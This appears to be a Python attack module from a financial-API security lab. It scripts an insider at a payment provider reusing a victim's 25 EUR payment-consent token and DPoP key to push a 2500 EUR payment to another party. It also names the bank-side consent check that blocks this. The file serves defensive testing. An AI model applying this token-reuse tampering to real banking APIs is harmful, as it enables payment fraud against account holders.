"""payment-tampering-after-consent: the consented payment changed before it reaches the bank.

The victim consented to 25.00 EUR to Corner Café (RFC 9396 authorization_details) and
FinLens paid it. A FinLens insider (MT) copies that consent's access token from FinLens's
database and, with FinLens's own DPoP key, sends POST /payments for 2500.00 EUR to mallory
from the same account. The token has payments:write and the account's payments consent,
so unless the bank compares the payment with the consented details (PSD2 dynamic linking,
RTS Art. 5), the money goes.
"""

from __future__ import annotations

from attacker import insider
from attacker.attack_context import AttackContext
from attacker.attacks import Attack
from attacker.forge import dpop_send, payment_body
from attacker.premises import paying_victim
from lab.domain import payment_consents
from lab.tpp.id_token import unverified_claims

AMOUNT = "2500.00"


def run(ctx: AttackContext) -> None:
    victim = paying_victim(ctx)
    row = insider.payment_of(ctx, victim)
    token = str(row["access_token"])
    granted = unverified_claims(token).get("authorization_details") or [{}]
    debtor = str(((granted[0] or {}).get("debtorAccount") or {}).get("account_id") or "")
    if not debtor:
        ctx.failed("the token names no debtor account")
    body = payment_body(ctx, debtor, AMOUNT)
    url = ctx.url("bank", "/payments")
    what = f"POST /payments {AMOUNT} EUR to mallory on the consent for 25.00 EUR to Corner Café"
    if str(row["token_type"] or "").lower() == "dpop":
        signer = insider.dpop_signer_for(ctx, token)
        response = dpop_send(ctx, signer, "POST", url, token, what=what, json=body)
    else:
        response = ctx.send("POST", url, headers={"Authorization": f"Bearer {token}"},
                            json=body, what=what)
    if response.status_code != 201:
        ctx.failed("the bank refused the tampered payment", response)
    paid = response.json()
    ctx.succeeded(f"paid {paid['instructed_amount']['amount']} EUR to "
                  f"{paid['creditor']['name']} on a consent for 25.00 EUR to Corner Café",
                  {"payment": paid, "consented": granted,
                   "consent_type": payment_consents.TYPE})


ATTACK = Attack(
    id="payment-tampering-after-consent", attacker="MT", legs=("store",), victim="prior",
    title="Consented payment changed before submission",
    blocked_by=("payment_consent_binding",),
    premise="A FinLens insider with FinLens's database and keys: the victim's payment "
            "consent token (25.00 EUR to Corner Café), and FinLens's DPoP key.",
    goal="2500.00 EUR from the victim's account to mallory", run=run, fapi2_blocks=False,
    why_not="RAR (RFC 9396) is only recommended by FAPI 2.0 (§5.3.2.2 note 5), and nothing in "
            "the profile makes the resource server compare a payment with it; PSD2 dynamic "
            "linking (RTS Art. 5) is the bank's own policy",
    refs=("RTS Art. 5", "RFC 9396 §2, §9", "FAPI2 §5.3.2.2"),
)
